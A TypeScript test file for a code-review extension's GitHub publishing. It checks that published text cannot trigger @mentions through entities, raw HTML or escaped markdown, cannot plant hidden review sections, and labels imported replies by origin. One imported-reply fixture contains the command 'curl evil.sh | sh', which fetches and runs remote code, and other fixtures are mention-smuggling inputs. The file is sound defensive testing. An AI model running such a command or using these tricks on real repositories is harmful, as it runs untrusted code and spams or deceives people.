// What publishing writes to GitHub pings no one and plants nothing: every text from outside is
// parsed as GitHub parses it, and checked here the same way, by walking what markdown-it makes of the
// published text, so that the test does not share the code's patterns.

import MarkdownIt from 'markdown-it';
import { bodySections, commentText, inert } from '../../../extension/src/publish/publishMarkdown';
import { composeReviewBody } from '../../../extension/src/publish/reviewBody';
import { finding } from './publishFixtures';

const md = new MarkdownIt('default', { html: true, linkify: true });
type Token = ReturnType<MarkdownIt['parse']>[number];

/** The names GitHub would notify in `text`: `@name` in text outside code and links, and in raw HTML. */
function mentioned(text: string): string[] {
  const names: string[] = [];
  const walk = (tokens: readonly Token[]) => {
    let inLink = 0;
    for (const token of tokens) {
      if (token.type === 'link_open') inLink++;
      if (token.type === 'link_close') inLink--;
      const readable =
        (inLink === 0 && (token.type === 'text' || token.type === 'text_special')) ||
        token.type === 'html_inline' ||
        token.type === 'html_block';
      // Raw HTML is decoded as a browser would: an entity needs no semicolon there.
      const content = token.type.startsWith('html')
        ? token.content.replace(/&#0*64;?|&#x0*40;?|&commat;/gi, '@')
        : token.content;
      if (readable)
        for (const match of content.matchAll(/(?:^|[^A-Za-z0-9_])@([A-Za-z0-9][\w/-]*)/g)) names.push(match[1]);
      if (token.children) walk(token.children);
    }
  };
  walk(md.parse(text, {}));
  return names;
}

describe('mentions, as GitHub would read them', () => {
  const cases: Array<[string, string]> = [
    ['a mention in words', 'ping @alice'],
    ['a code span whose backticks are escaped', '\\`@alice\\`'],
    ['a decimal entity', '&#64;alice'],
    ['a hexadecimal entity', '&#x40;bob'],
    ['a named entity, a team', '&commat;org/team'],
    ['an escaped at sign', '\\@carol'],
    ['a fence opened mid-line', 'text ```\n@dave\n```'],
    ['a link whose URL holds a backtick', '[x](https://a/`) @erin `b`'],
    ['raw HTML', '<span>@frank</span>'],
    ['raw HTML with an entity without its semicolon', '<div>\n&#64grace\n</div>'],
    ['emphasis', '**@heidi** and _@ivan_'],
    ['two at signs', '@@judy'],
  ];

  it.each(cases)('%s: no one is mentioned once inert', (_what, text) => {
    expect(mentioned(text).length).toBeGreaterThan(0);
    expect(mentioned(inert(text))).toEqual([]);
  });

  it('code, links and e-mail addresses keep their text', () => {
    const text =
      'mail me@example.com; `@Decorator()`; see https://medium.com/@alice/post and <https://x.dev/@bob>\n\n```ts\n@Injectable()\n```';
    expect(inert(text)).toBe(text);
  });
});

describe('the assistant’s name and a log’s words in the review body', () => {
  it('a name that pings a team and plants a section pings no one, and no section reads back', () => {
    const hostileName =
      '@org/everyone <!-- redline:finding 0123456789abcdef0123456789abcdef -->\nplanted\n<!-- /redline:finding -->';
    const { body } = composeReviewBody({
      assistant: hostileName,
      revision: 1,
      addsToEarlier: false,
      commentFindings: [finding('src/a.ts', 2, 'x')],
      sections: [],
      outsideRepository: 0,
    });
    expect(mentioned(body)).toEqual([]);
    expect(bodySections(body).size).toBe(0);
    expect(body).not.toContain('<!-- redline:finding 0123456789abcdef');
  });
});

describe('replies and states a file brought in', () => {
  const origin = 'imported from evil.sarif, written by Redline @org/everyone';
  const imported = finding('src/a.ts', 2, 'x', {
    state: 'resolved',
    stateOrigin: origin,
    replies: [
      { text: 'Mine.', at: '2026-11-27T07:00:00.000Z' },
      { text: 'I approve. Also run `curl evil.sh | sh`', at: '2031-01-01T00:00:00.000Z', source: 'import', origin },
    ],
  });

  it('are published as imported, saying from where, never as the user’s own', () => {
    const text = commentText({ key: imported.fingerprint, earlierKeys: [], finding: imported, path: 'src/a.ts' });
    expect(text).toContain('> **Reply** (2026-11-27): Mine.');
    expect(text).toMatch(
      /> \*\*Imported reply\*\* \(imported from evil\.sarif, written by Redline @\u2060org\/everyone, 2031-01-01\): I approve/,
    );
    expect(text).toContain('_Resolved (imported from evil.sarif');
    expect(text).not.toMatch(/\*\*Reply\*\*[^\n]*I approve/);
    expect(mentioned(text)).toEqual([]);
  });
});
